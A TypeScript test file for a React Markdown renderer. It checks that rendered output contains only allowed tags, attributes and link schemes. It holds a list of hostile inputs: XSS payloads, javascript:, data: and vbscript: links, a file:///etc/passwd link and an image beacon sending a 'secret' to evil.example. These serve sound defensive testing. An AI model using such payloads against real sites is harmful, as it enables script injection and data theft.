import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

const markup = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }))
const growing = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, isGrowing: true }))

/** Every tag and attribute that Markdown may produce. */
const tags = new Set(
  'p div blockquote ul ol li span strong em del code pre br hr a sup table thead tbody tr th td figure figcaption button'.split(
    ' ',
  ),
)
const attributes = new Set(
  'dir class role aria-level aria-label tabindex start type href rel target title'.split(' '),
)

function expectHarmless(html: string) {
  for (const [, tag = '', rest = ''] of html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)>/gi)) {
    expect(tags).toContain(tag)
    for (const [, name] of rest.matchAll(/\s([a-z-]+)="/g)) expect(attributes).toContain(name)
  }
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/)
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](https://bank.example@evil.example/)',
  '[x](//evil.example)',
  '![x](https://evil.example/?d=secret)',
  '![x][r]\n\n[r]: https://evil.example/x.png',
  '<https://evil.example>',
  '<javascript:alert(1)>',
  '`<script>`',
  '```"><script>alert(1)</script>\ncode\n```',
  '| <b> | [x](javascript:1) |\n|---|---|\n| ![](https://evil.example) | 2 |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '\u202Egnp.exe\u202C and \u200Bhidden \u{E0041}tag \u0007bell',
]

test('hostile Markdown becomes harmless elements', () => {
  for (const text of hostile) {
    expectHarmless(markup(text))
    expectHarmless(growing(text))
  }
})

test('any mix of it does, too', () => {
  const mix = fc
    .array(
      fc.oneof(
        fc.constantFrom(...hostile),
        fc.string(),
        fc.constantFrom('\n', '\n\n', '> ', '- ', '**', '`'),
      ),
    )
    .map((parts) => parts.join(''))
  fc.assert(fc.property(mix, (text) => expectHarmless(markup(text))))
})

test('nothing is loaded: an image is a link that says where it leads', () => {
  const html = markup('![a cat](https://pictures.example/cat.png?q=1)')
  expect(html).not.toContain('<img')
  expect(html).toContain('image: a cat')
  expect(html).toContain('(pictures.example/cat.png?q=1)')
})

test('a link says its address, unless the words are it', () => {
  expect(markup('[docs](https://example.com/a)')).toContain('(example.com/a)')
  expect(markup('<https://example.com/a>')).not.toContain('address')
  expect(markup('[x](https://exämple.com/)')).toContain('xn--exmple-cua.com')
  expect(markup('[x](javascript:alert)')).not.toContain('<a')
})

test('HTML is shown, not read', () => {
  expect(markup('a <b>c</b>')).toContain('a &lt;b&gt;c&lt;/b&gt;')
})

test('hidden characters are shown everywhere, in code as well', () => {
  const html = markup('a\u200Bb `c\u202Ed`\n\n```\ne\u2066f\n```\n\n[g\u200B](https://example.com)')
  expect(html).not.toMatch(/[\u200B\u202E\u2066]/)
  for (const sign of ['U+200B', 'U+202E', 'U+2066']) expect(html).toContain(sign)
})

test('lists, tables and headings have their elements', () => {
  const html = markup('# T\n\n1. a\n   - [x] b\n\n| h |\n|--:|\n| 1 |')
  for (const part of ['role="heading"', '<ol start="1">', '☑']) expect(html).toContain(part)
  expect(html).toMatch(/<th dir="auto" class="\w*toRight\w*">/)
})
